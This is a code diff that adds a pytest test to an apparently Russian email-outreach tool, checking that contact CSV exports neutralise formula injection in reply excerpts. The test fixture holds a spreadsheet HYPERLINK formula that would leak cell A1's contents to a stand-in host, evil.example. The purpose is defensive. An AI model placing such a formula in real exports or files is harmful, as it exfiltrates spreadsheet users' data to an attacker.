@@ -124,3 +124,23 @@ def test_contacts_export_carries_the_reply(engine: Engine, loop_db: Settings, tm
         assert warm["reply_from"] == "olga@warm.ru"
         assert warm["reply_excerpt"].startswith("Здравствуйте, Анна! Да, интересно [/].")
     assert (rows["box@full.ru"]["replied_at"], rows["box@full.ru"]["reply_from"]) == ("", "")
+
+
+def test_a_reply_cannot_put_a_formula_into_the_export(
+    engine: Engine, settings: Settings, tmp_path: Path
+) -> None:
+    with Session(engine) as s, s.begin():
+        company = add_company(s, "evil.ru", emails=("info@evil.ru",))
+        row = _sent(s, company, "info@evil.ru", 1)
+        c = Classification(
+            MailKind.REPLY, "in-reply-to", message_id=row.message_id, sender="info@evil.ru",
+            excerpt='=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
+        )  # fmt: skip
+        apply_classification(
+            s, c, mailbox="gmail", folder="INBOX", uidvalidity=5, uid=1, settings=settings, now=NOW
+        )
+    with Session(engine) as s:
+        export_contacts(s, tmp_path / "contacts.csv")
+    with (tmp_path / "contacts.csv").open(encoding="utf-8", newline="") as fh:
+        [evil] = list(csv.DictReader(fh))
+    assert evil["reply_excerpt"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'
